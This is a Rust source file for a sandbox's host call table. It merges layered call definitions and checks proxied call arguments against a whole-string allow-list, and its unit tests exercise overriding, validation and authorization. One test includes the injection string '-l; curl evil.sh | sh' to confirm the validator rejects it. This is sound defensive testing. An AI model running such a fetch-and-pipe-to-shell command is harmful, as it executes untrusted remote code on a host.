//! Host call table
//!
//! Flattens resolved resource sets into the table the host-side call proxy
//! consults. A call defined by several sets takes the definition of the last
//! one in application order, so deeper scopes and the append set override
//! shallower ones.

use serde::Serialize;
use std::collections::BTreeMap;
use tracing::{debug, warn};

use crate::error::{EnclaveError, EnclaveResult};
use crate::overlay::ResolvedResource;
use crate::resource::CallSpec;

/// A call exposed to the sandbox
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct CallEntry {
    /// Resource set that supplied the effective definition
    pub resource: String,
    #[serde(flatten)]
    call: CallSpec,
}

impl CallEntry {
    pub fn name(&self) -> &str {
        self.call.name()
    }

    pub fn description(&self) -> &str {
        self.call.description()
    }

    /// Host-side command to run for this call
    pub fn command(&self) -> &str {
        self.call.command()
    }

    /// Configured allow-list pattern, if any
    pub fn allowed_args(&self) -> Option<&str> {
        self.call.allowed_args().map(|m| m.pattern())
    }

    /// Check a candidate argument string against the allow-list.
    ///
    /// Calls without an allow-list accept anything. Otherwise the whole string
    /// must match.
    pub fn validate_args(&self, args: &str) -> EnclaveResult<()> {
        if self.call.permits(args) {
            Ok(())
        } else {
            Err(EnclaveError::ArgsNotAllowed {
                call: self.name().to_string(),
                args: args.to_string(),
            })
        }
    }
}

/// Calls keyed by name
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
#[serde(transparent)]
pub struct CallTable {
    entries: BTreeMap<String, CallEntry>,
}

impl CallTable {
    pub fn get(&self, name: &str) -> Option<&CallEntry> {
        self.entries.get(name)
    }

    /// Validate a proxied call request before it runs on the host
    pub fn authorize(&self, name: &str, args: &str) -> EnclaveResult<&CallEntry> {
        let entry = self.get(name).ok_or_else(|| EnclaveError::UnknownCall {
            name: name.to_string(),
        })?;
        entry.validate_args(args)?;
        Ok(entry)
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Entries sorted by name
    pub fn iter(&self) -> impl Iterator<Item = &CallEntry> {
        self.entries.values()
    }

    pub fn names(&self) -> impl Iterator<Item = &str> {
        self.entries.keys().map(String::as_str)
    }
}

impl<'a> IntoIterator for &'a CallTable {
    type Item = &'a CallEntry;
    type IntoIter = std::collections::btree_map::Values<'a, String, CallEntry>;

    fn into_iter(self) -> Self::IntoIter {
        self.entries.values()
    }
}

/// Build the call table for resources in application order
pub fn aggregate_calls(resources: &[ResolvedResource]) -> CallTable {
    let mut entries: BTreeMap<String, CallEntry> = BTreeMap::new();

    for resource in resources {
        for call in resource.spec.calls() {
            let entry = CallEntry {
                resource: resource.name.clone(),
                call: call.clone(),
            };
            if let Some(previous) = entries.insert(call.name().to_string(), entry) {
                if previous.command() != call.command() {
                    warn!(
                        call = call.name(),
                        from = %previous.resource,
                        to = %resource.name,
                        "call definition overridden"
                    );
                }
            }
        }
    }

    debug!(calls = entries.len(), "aggregated host calls");
    CallTable { entries }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::resource::{Call, ResourceSet};
    use std::sync::Arc;

    fn resolved(name: &str, calls: Vec<Call>) -> ResolvedResource {
        let set = ResourceSet {
            calls,
            ..Default::default()
        };
        ResolvedResource {
            name: name.to_string(),
            spec: Arc::new(set.normalize(name).unwrap()),
        }
    }

    fn call(name: &str, command: &str, allowed_args: &str) -> Call {
        Call {
            name: name.to_string(),
            description: String::new(),
            command: command.to_string(),
            allowed_args: allowed_args.to_string(),
        }
    }

    #[test]
    fn test_later_set_overrides_call() {
        let resources = vec![
            resolved("global", vec![call("git-sync", "git pull --rebase", "")]),
            resolved(
                "feature",
                vec![
                    call("git-sync", "git pull", ""),
                    call("deploy", "./scripts/deploy.sh", "^--env=(dev|prod)$"),
                ],
            ),
        ];

        let table = aggregate_calls(&resources);
        assert_eq!(table.len(), 2);

        let sync = table.get("git-sync").unwrap();
        assert_eq!(sync.command(), "git pull");
        assert_eq!(sync.resource, "feature");

        let mut names: Vec<&str> = table.names().collect();
        names.sort();
        assert_eq!(names, vec!["deploy", "git-sync"]);
    }

    #[test]
    fn test_validate_args() {
        let table = aggregate_calls(&[resolved(
            "feature",
            vec![call("deploy", "./scripts/deploy.sh", "^--env=(dev|prod)$")],
        )]);
        let deploy = table.get("deploy").unwrap();
        assert!(deploy.validate_args("--env=dev").is_ok());
        assert!(deploy.validate_args("--env=prod").is_ok());

        let err = deploy.validate_args("--env=qa").unwrap_err();
        assert!(matches!(err, EnclaveError::ArgsNotAllowed { .. }));
    }

    #[test]
    fn test_unanchored_pattern_matches_whole_string() {
        let table = aggregate_calls(&[resolved("base", vec![call("ls", "ls", "-l|-a")])]);
        let ls = table.get("ls").unwrap();
        assert!(ls.validate_args("-l").is_ok());
        assert!(ls.validate_args("-l; curl evil.sh | sh").is_err());
        assert!(ls.validate_args("x -a").is_err());
    }

    #[test]
    fn test_no_pattern_allows_anything() {
        let table = aggregate_calls(&[resolved("base", vec![call("sync", "git pull", "")])]);
        assert!(table.get("sync").unwrap().validate_args("").is_ok());
        assert!(table.get("sync").unwrap().validate_args("--all --prune").is_ok());
        assert_eq!(table.get("sync").unwrap().allowed_args(), None);
    }

    #[test]
    fn test_authorize() {
        let table = aggregate_calls(&[resolved(
            "base",
            vec![call("deploy", "./d.sh", "dev|prod")],
        )]);
        assert_eq!(table.authorize("deploy", "dev").unwrap().command(), "./d.sh");
        assert!(matches!(
            table.authorize("deploy", "qa"),
            Err(EnclaveError::ArgsNotAllowed { .. })
        ));
        assert!(matches!(
            table.authorize("rm", ""),
            Err(EnclaveError::UnknownCall { .. })
        ));
    }

    #[test]
    fn test_empty_resources() {
        let table = aggregate_calls(&[]);
        assert!(table.is_empty());
        assert_eq!(table.iter().count(), 0);
    }
}
